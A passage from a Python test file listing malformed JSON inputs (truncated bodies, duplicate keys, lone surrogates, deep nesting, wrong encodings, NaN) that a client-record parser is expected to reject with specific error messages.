    refused("JSON Lines", b"\n".join(map(body, CLIENTS)), "no JSON list"),
    refused("cut in the middle", body(CLIENTS)[:500], "no JSON list"),
    refused("a comma too many", body(CLIENTS)[:-1] + b",]", "no JSON list"),
    refused("single quotes", body(CLIENTS).replace(b'"', b"'"), "no JSON list"),
    refused("a comment", b"/* clients */ " + body(CLIENTS), "no JSON list"),
    refused("something after the end", body(CLIENTS) + b"[]", "no JSON list"),
    refused("NaN", raw("duration", "NaN"), "NaN is no JSON"),
    refused("Infinity", raw("duration", "-Infinity"), "-Infinity is no JSON"),
    refused("a hexadecimal number", raw("duration", "0x10"), "no JSON list"),
    refused("a number with a leading zero", raw("duration", "06"), "no JSON list"),
    refused("a number of 5,000 digits", raw("duration", "9" * 5000), "too many digits"),
    refused("a key twice", raw("duration", '6, "duration": 7'), "the same name twice"),
    refused("an unknown key twice", raw("note", '{"a": 1, "a": 2}'), "the same name twice"),
    refused("nested a million times", b"[" * 1_000_000, "nested too deeply"),
    refused("objects nested 100,000 times", b'[{"a":' * 100_000, "nested too deeply"),
    refused("half a surrogate pair", raw("client_id", r'"\ud800"'), "UTF-8"),
    refused("half a surrogate pair in a key", raw("note", r'1, "\udc00": 1'), "UTF-8"),
    refused("half a surrogate pair in a category", raw("purpose", r'"\ud83d"'), "UTF-8"),
    refused("a line break in a text", raw("purpose", '"radio\ntv"'), "no JSON list"),
    refused("UTF-16 JSON", json.dumps(CLIENTS).encode("utf-16"), "UTF-8"),
    refused(
        "latin-1 JSON", json.dumps([CLIENTS[0] | {"note": "Küche"}], ensure_ascii=False).encode("latin-1"), "UTF-8"
    ),
    refused("JSON with byte order mark", b"\xef\xbb\xbf" + body(CLIENTS), "no JSON list"),
    refused("gzip of JSON", lambda: gzip.compress(body(CLIENTS)), "UTF-8"),
    refused("NULs around JSON", bytes(10) + body(CLIENTS), "no JSON list"),
]
